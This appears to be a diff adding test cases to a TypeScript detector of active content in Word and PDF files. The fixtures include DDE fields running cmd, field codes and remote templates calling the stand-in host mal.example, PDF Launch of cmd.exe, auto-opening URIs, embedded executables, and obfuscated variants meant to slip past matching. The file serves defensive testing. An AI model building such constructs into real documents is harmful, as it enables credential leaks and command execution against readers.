@@ -101,6 +101,49 @@ const actingDocuments: [rule: string, name: string, bytes: Buffer][] = [
       '<w:p><w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:instrText>DE</w:instrText><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:p>',
     ),
   ],
+  ...[
+    ['a picture from elsewhere', 'INCLUDEPICTURE &quot;http://mal.example/p.png&quot; \\d'],
+    ['a picture from a share', 'INCLUDEPICTURE \\d &quot;\\\\\\\\mal.example\\\\p.png&quot;'],
+    ['a document included', 'INCLUDETEXT &quot;http://mal.example/x.docx&quot;'],
+    ['a linked sheet', ' LINK Excel.Sheet.12 &quot;\\\\\\\\mal.example\\\\x.xlsx&quot;'],
+    ['letters by numbers', 'QUOTE 68 68 69 65 85 84 79 32 99'],
+  ].map(([name = '', instruction = '']): (typeof actingDocuments)[number] => [
+    'acting_document',
+    `${name} in a simple field`,
+    saying(`<w:p><w:fldSimple w:instr="${instruction}"/></w:p>`),
+  ]),
+  ...[
+    [
+      'a picture from elsewhere, in pieces',
+      ['begin', 'INCLUDE', 'PICTURE "htt', 'p://mal.example/p.png"', 'end'],
+    ],
+    [
+      'a picture with a computed address',
+      ['begin', 'INCLUDEPICTURE ', 'begin', 'DOCVARIABLE x', 'end', 'end'],
+    ],
+    ['a linked sheet in pieces', ['begin', 'LI', 'NK Excel.Sheet.12 "x"', 'separate', 'end']],
+    [
+      'letters by numbers within a field',
+      ['begin', 'begin', ' QUOTE 68 68 69 ', 'end', ' c:\\cmd.exe', 'end'],
+    ],
+    ['DDE around another field', ['begin', 'DD', 'begin', 'QUOTE ""', 'end', 'EAUTO cmd', 'end']],
+  ].map(([name, pieces]): (typeof actingDocuments)[number] => [
+    'acting_document',
+    String(name),
+    saying(
+      `<w:p>${[...(pieces ?? [])].map((piece) => (/^(?:begin|separate|end)$/.test(piece) ? `<w:fldChar w:fldCharType="${piece}"/>` : `<w:instrText>${piece}</w:instrText>`)).join('')}</w:p>`,
+    ),
+  ]),
+  [
+    'acting_document',
+    'a template on a share that is said to lie within',
+    related('word/_rels/settings.xml.rels', 'attachedTemplate', '\\\\mal.example\\s\\t.dotm', 'Internal'),
+  ],
+  [
+    'acting_document',
+    'macros whose part has another name',
+    related('word/_rels/document.xml.rels', 'vbaProject', 'data.bin', 'Internal'),
+  ],
   ['acting_document', 'DDE in a simple field', saying('<w:fldSimple w:instr="&#68;DE cmd x"/>')],
   [
     'acting_document',
@@ -200,6 +243,31 @@ const actingDocuments: [rule: string, name: string, bytes: Buffer][] = [
   ['acting_pdf', 'a PDF with a script by numbers', aPdf('x\n9 0 obj<</S/J#61vaScrip#74/JS(x)>>endobj')],
   ['acting_pdf', 'a PDF that starts a program', aPdf('x\n9 0 obj<</S /Launch/F(cmd.exe)>>endobj')],
   ['acting_pdf', 'a form with scripts', aPdf('x\n9 0 obj<</AcroForm<</XFA 8 0 R>>>>endobj')],
+  ['acting_pdf', 'a form with a script in place', aPdf('x\n9 0 obj<</AcroForm<</XFA(<script>)>>>>endobj')],
+  ['acting_pdf', 'a PDF that opens another file', aPdf('x\n9 0 obj<</S/GoToR/F(\\\\mal.example)>>endobj')],
+  ['acting_pdf', 'a PDF that sends what is typed', aPdf('x\n9 0 obj<</S/SubmitForm/F(http://x)>>endobj')],
+  [
+    'acting_pdf',
+    'an address opened by itself',
+    aPdf('x\n9 0 obj<</OpenAction<</S/URI/URI(http://x)>>>>endobj'),
+  ],
+  [
+    'acting_pdf',
+    'an address opened with a page',
+    aPdf('x\n9 0 obj<</AA<</O<</S/URI/URI(http://x)>>>>>>endobj'),
+  ],
+  [
+    'acting_pdf',
+    'an address opened by itself, described elsewhere',
+    aPdf('x\n9 0 obj<</OpenAction 8 0 R>>endobj\n8 0 obj<</S/URI/URI(http://x)>>endobj'),
+  ],
+  ['acting_pdf', 'an attached program', aPdf('x\n9 0 obj<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>endobj')],
+  [
+    'acting_pdf',
+    'an attached program by numbers',
+    aPdf('x\n9 0 obj<</EF<</F 6 0 R>>/UF<FEFF0061002E006500780065>>>endobj'),
+  ],
+  ['damaged', 'a page that begins like a PDF', latin('%PDF-1.4\n<html><script>alert(1)</script>')],
   ['acting_pdf', 'a script in packed objects', packedPdf('1 0 <</S/JavaScript/JS(x)>>')],
   [
     'acting_pdf',
@@ -254,6 +322,19 @@ describe('the type of a file', () => {
         'content.xml':
           '<x><text:a xlink:href="https://exemple.fr"/><draw:image xlink:href="Pictures/1.png"/></x>',
       }),
+    ],
+    [
+      'docx',
+      saying('<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;C:\\\\Photos\\\\a.png&quot; \\d"/></w:p>'),
+    ],
+    ['docx', saying('<w:p><w:fldSimple w:instr="HYPERLINK &quot;https://exemple.fr/&quot;"/></w:p>')],
+    ['docx', related('word/_rels/document.xml.rels', 'image', '../media/photo.png', 'Internal')],
+    ['docx', related('word/_rels/document.xml.rels', 'hyperlink', '#Feuil1!A1:B2', 'Internal')],
+    ['pdf', aPdf('x\n9 0 obj<</OpenAction[3 0 R/Fit]/A<</S/URI/URI(https://exemple.fr)>>>>endobj')],
+    ['pdf', aPdf('x\n9 0 obj<</AA<</O 8 0 R>>/A<</S/URI/URI(https://exemple.fr)>>>>endobj')],
+    [
+      'pdf',
+      aPdf('x\n9 0 obj<</Type/Filespec/F(factur-x.xml)/UF(\xfe\xff\0a\0.\0x\0m\0l)/EF<</F 6 0 R>>>>endobj'),
     ],
     ['pdf', packedPdf('1 0 <</Type/Page>>')],
     ['pdf', packedPdf(`q ${'0'.repeat(100_000)} (HTML/JavaScript) Tj`, '/Filter/FlateDecode')],
